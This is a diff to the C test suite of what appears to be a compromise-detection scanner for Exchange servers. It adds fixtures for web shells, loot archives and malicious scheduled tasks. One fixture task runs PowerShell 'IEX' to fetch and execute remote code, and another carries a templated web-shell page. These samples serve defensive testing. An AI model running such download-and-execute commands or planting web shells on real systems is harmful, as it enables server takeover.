@@ -228,6 +228,7 @@ static void test_pages(void **state)
     clean_server(b, open_build);
     settings(b, WEB "/aspnet_client/supp0rt.aspx", "http://f/<{s} {l}=\"{j}\" {a}>function Page_Load(){{e}({r}[\"orange\"],\"{u}\");}</{s}>");
     settings(b, PROXY "/owa/auth/OutlookEN.aspx", "http://g/");
+    settings(b, WEB "/aspnet_client/x1.config", "http://f/<{s} {l}=\"{j}\" {a}>{e}({r}[\"orange\"],\"{u}\");</{s}>");
     page(b, PROXY "/owa/auth/RedirSuiteServerProxy.aspx", "{o}@ Page {l}=\"{j}\"{c}{o}{e}({r}.Item[\"key9\"],\"{u}\");{c}");
     page(b, PROXY "/owa/auth/errorFF.aspx", "{o}@ Page {l}=\"C#\"{c}{o}= 1 {c}");
     page(b, PROXY "/owa/auth/logon.aspx", "{o}@ Page {l}=\"C#\"{c}{o}= 2 {c} branded");
@@ -247,6 +248,7 @@ static void test_pages(void **state)
     CHECK(f->state == THING_PRESENT && f->reachable == REACH_YES && f->severity == SEV_CRITICAL && f->hash_hex.n == 64 && f->cite.has_raw);
     CHECK(at(f->time_us, "2021-03-03T06:59:20Z"));
     CHECK(str_chr(f->cite.excerpt, '<') == STR_NONE);
+    CHECK(fact(b, FACT_PAGE, "files/settings-export", "\\aspnet_client\\x1.config")->reachable == REACH_NO);
     f = fact(b, FACT_PAGE, "files/settings-export", "\\owa\\auth\\OutlookEN.aspx");
     CHECK(f->severity == SEV_HIGH && f->confidence < 0.9);
     f = fact(b, FACT_PAGE, "files/evaluator", "\\owa\\auth\\RedirSuiteServerProxy.aspx");
@@ -259,7 +261,7 @@ static void test_pages(void **state)
     CHECK(fact(b, FACT_PAGE_REVIEW, "files/aspnet-client-page", "\\system_web\\empty.aspx")->severity == SEV_MEDIUM);
     fact(b, FACT_PAGE_REVIEW, "files/root-page", "\\wwwroot\\status.aspx");
     CHECK(fact(b, FACT_PAGE, "files/evaluator", "\\ProgramData\\kept.aspx")->reachable == REACH_NO);
-    CHECK(count(b, FACT_PAGE) == 5 && count(b, FACT_PAGE_REVIEW) == 5);
+    CHECK(count(b, FACT_PAGE) == 6 && count(b, FACT_PAGE_REVIEW) == 5);
     CHECK(str_has(fact(b, FACT_PAGE_REVIEW, "files/aspnet-client-page", "\\ChackLogsPL.aspx")->why, STR("Black Kingdom")));
     CHECK_STR(b->found.server.name, STR("EXCH01"));
     CHECK_STR(b->found.server.domain, STR("bakery.example"));
@@ -337,6 +339,8 @@ static void test_config(void **state)
          "<mexRuntime><agentList><agent name=\"Helper\" assemblyPath=\"C:\\ProgramData\\h\\h.dll\" enabled=\"true\"/>"
          "<agent name=\"Exclaimer\" assemblyPath=\"C:\\Program Files\\Exclaimer Ltd\\e.dll\" enabled=\"true\"/></agentList></mexRuntime>");
     text(b, "/case/C/Windows/System32/Tasks/Winnet", "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc AAAA</Arguments></Exec></Actions></Task>");
+    text(b, "/case/C/Windows/System32/Tasks/VSPerfMon", "<Task><Actions><Exec><Command>C:\\Program Files\\Microsoft Visual Studio\\vsperfmon.exe</Command></Exec></Actions></Task>");
+    text(b, "/case/C/Windows/System32/Tasks/Other", "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>IEX (fetch 'http://p.estonine.com/p')</Arguments></Exec></Actions></Task>");
     text(b, "/case/C/Windows/System32/Tasks/Backup", "<Task><Actions><Exec><Command>C:\\Program Files\\Backup\\b.exe</Command></Exec></Actions></Task>");
     hunt(b, 1);
 
@@ -347,11 +351,14 @@ static void test_config(void **state)
     fact(b, FACT_WAY_BACK, "files/config-handler", "\\aspnet_client\\web.config");
     fact(b, FACT_WAY_BACK, "config/agent", "\\ProgramData\\h\\h.dll");
     fact(b, FACT_NOTE, "config/agent-other", "\\Exclaimer Ltd\\e.dll");
+    f = fact(b, FACT_WAY_BACK, "files/task", "\\Tasks\\Other");
+    CHECK(str_has(f->why, STR("Red Canary")));
+    fact(b, FACT_NOTE, "files/task-odd", "\\Tasks\\VSPerfMon");       /* a name alone never accuses */
     f = fact(b, FACT_WAY_BACK, "files/task", "\\Tasks\\Winnet");
     CHECK_STR(f->what, STR("scheduled_task"));
     fact(b, FACT_MITIGATION, "files/mitigation", "\\wwwroot\\web.config");
     CHECK(b->found.server.mitigated);
-    CHECK(count(b, FACT_WAY_BACK) == 5);
+    CHECK(count(b, FACT_WAY_BACK) == 6);
 }
 
 static void test_things(void **state)
@@ -367,6 +374,7 @@ static void test_things(void **state)
     add(b, PROXY "/owa/auth/Current/themes/resources/logo.gif", (struct str){ (const uint8_t *)"7z\xBC\xAF\x27\x1C....", 10 });
     add(b, WEB "/aspnet_client/it.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
     add(b, "/case/C/ProgramData/it.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
+    add(b, "/case/C/ProgramData/pst/box.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
     add(b, "/case/C/ProgramData/installer-cache.zip", (struct str){ (const uint8_t *)"PK\x03\x04......", 10 });
     add(b, "/case/C/Windows/Temp/d.dmp", (struct str){ dump, sizeof dump });
     add(b, "/case/C/Users/Public/s.dat", (struct str){ hive, sizeof hive });
@@ -379,6 +387,7 @@ static void test_things(void **state)
 
     CHECK(fact(b, FACT_LOOT, "files/loot", "\\aspnet_client\\it.zip")->reachable == REACH_YES);
     fact(b, FACT_LOOT, "files/loot", "\\ProgramData\\it.zip");
+    fact(b, FACT_LOOT, "files/loot", "\\ProgramData\\pst\\box.zip");
     fact(b, FACT_NOTE, "files/loot", "\\ProgramData\\installer-cache.zip");
     fact(b, FACT_SECRET, "files/secret", "\\Temp\\d.dmp");
     fact(b, FACT_SECRET, "files/secret", "\\Public\\s.dat");
